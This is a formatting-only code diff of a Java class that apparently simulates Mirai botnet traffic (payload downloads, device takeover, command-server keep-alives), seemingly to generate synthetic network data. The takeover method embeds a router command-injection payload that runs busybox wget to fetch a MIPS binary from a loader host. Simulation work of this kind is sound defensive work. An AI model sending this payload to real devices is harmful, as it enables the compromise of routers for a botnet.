@@ -69,10 +69,10 @@ final class MiraiBots implements BotPlayer {
         int bytes = random.nextInt(60_000, 120_000);
         String request = "GET /bins/" + program + " HTTP/1.0\r\nHost: "
                 + gang.conversations().address(loader) + "\r\nUser-Agent: Wget\r\n\r\n";
-        String answer = "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: " + bytes
-                + "\r\n\r\n";
-        List<Message> messages = List.of(
-                Message.text(true, request, 0), Message.text(false, answer, 0), Message.noise(false, bytes, 0));
+        String answer =
+                "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: " + bytes + "\r\n\r\n";
+        List<Message> messages =
+                List.of(Message.text(true, request, 0), Message.text(false, answer, 0), Message.noise(false, bytes, 0));
         Ends ends = gang.outward(bot, loader, 80, random);
         stage.add(nanos, new TcpDialogue(ends, messages, random.split()).seenBy(bot.doing(BehaviourKind.LOADING)));
     }
@@ -96,8 +96,8 @@ final class MiraiBots implements BotPlayer {
 
     private List<Message> takeOver(boolean success, SplittableRandom random) {
         if (family.port() != MiraiScan.TELNET) {
-            String body = "<NewStatusURL>$(busybox wget -g " + gang.conversations().address(loader)
-                    + " -l /tmp/b -r /bins/mips)</NewStatusURL>";
+            String body = "<NewStatusURL>$(busybox wget -g "
+                    + gang.conversations().address(loader) + " -l /tmp/b -r /bins/mips)</NewStatusURL>";
             String request = "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: " + body.length()
                     + "\r\nConnection: keep-alive\r\n\r\n" + body;
             String answer = "HTTP/1.1 " + (success ? "200 OK" : "401 Unauthorized") + "\r\nContent-Length: 0\r\n\r\n";
@@ -130,8 +130,7 @@ final class MiraiBots implements BotPlayer {
                         gang.outward(bot, commandServer, commandPort, random),
                         List.of(Message.noise(true, 24, 0)),
                         random.split())
-                .goingOn(now -> List.of(
-                        Message.whole(true, beat, KEEP_ALIVE_NANOS), Message.whole(false, beat, 0)))
+                .goingOn(now -> List.of(Message.whole(true, beat, KEEP_ALIVE_NANOS), Message.whole(false, beat, 0)))
                 .seenBy(bot.doing(BehaviourKind.LONG_CONNECTION));
     }
 
